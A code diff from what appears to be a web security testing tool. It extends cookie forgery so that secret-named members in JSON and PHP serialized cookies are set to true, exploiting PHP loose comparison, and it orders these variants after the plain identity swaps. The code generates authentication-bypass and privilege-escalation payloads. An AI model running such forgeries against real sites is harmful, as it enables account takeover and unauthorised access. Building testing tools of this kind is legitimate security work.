@@ -421,6 +421,21 @@ export function phpSecretsTrue(text: string): string | undefined {
   return changed ? out : undefined;
 }
 
+/** JSON text with each string member named like a secret set to `true` (see phpSecretsTrue); undefined if none. */
+export function jsonSecretsTrue(text: string): string | undefined {
+  if (!text.trimStart().startsWith('{')) return undefined;
+  let changed = false;
+  const out = text.replace(
+    /"([A-Za-z_][\w-]{0,30})"(\s{0,3}):(\s{0,3})"[^"\\]{0,512}"/g,
+    (all, key: string, a, b) => {
+      if (!SECRET_MEMBER.test(key)) return all;
+      changed = true;
+      return `"${key}"${a}:${b}true`;
+    },
+  );
+  return changed ? out : undefined;
+}
+
 /** A role member (`s:4:"role";s:4:"user";`) or an admin flag (`s:8:"is_admin";b:0;`) of PHP serialized text, raised. */
 function raisePhpRole(text: string, made?: string): string | undefined {
   let changed = false;
@@ -527,30 +542,30 @@ function identityForgeries(
   pairs: readonly (readonly [string, string])[],
 ): Forgery[] {
   const out: Forgery[] = [];
+  const later: Forgery[] = [];
   for (const [cookie, raw] of [...jar].slice(0, MAX_COOKIES)) {
     for (const layer of layersOf(raw)) {
       let text = layer.text;
       for (const [from, to] of pairs) text = replaceWord(text, from, to) ?? text;
       if (text === layer.text) continue;
-      if (!PHP_SERIALIZED.test(text.trim())) {
-        out.push({ cookie, kind: layer.kind, value: layer.encode(text), before: layer.text, after: text });
-        continue;
-      }
-      text = phpLengths(text);
+      const php = PHP_SERIALIZED.test(text.trim());
+      if (php) text = phpLengths(text);
       out.push({ cookie, kind: layer.kind, value: layer.encode(text), before: layer.text, after: text });
-      // PHP compares loosely (`==`): a secret member unserialised as `true` equals any non-empty string.
-      const loose = phpSecretsTrue(text);
+      // PHP compares loosely (`==`): a secret member read back as `true` (unserialize, json_decode) equals any
+      // non-empty string.
+      const loose = php ? phpSecretsTrue(text) : jsonSecretsTrue(text);
       if (loose !== undefined)
-        out.push({
+        later.push({
           cookie,
-          kind: `${layer.kind}, its secret members set to true (b:1)`,
+          kind: `${layer.kind}, its secret members set to true (${php ? 'b:1' : 'true'})`,
           value: layer.encode(loose),
           before: layer.text,
           after: loose,
         });
     }
   }
-  return out;
+  // The loose-comparison variants after every plain one (forge tries the first few).
+  return [...out, ...later];
 }
 
 /** Pairs (A's value → B's value) of the same kind: the same login field, the same member of the same read. */
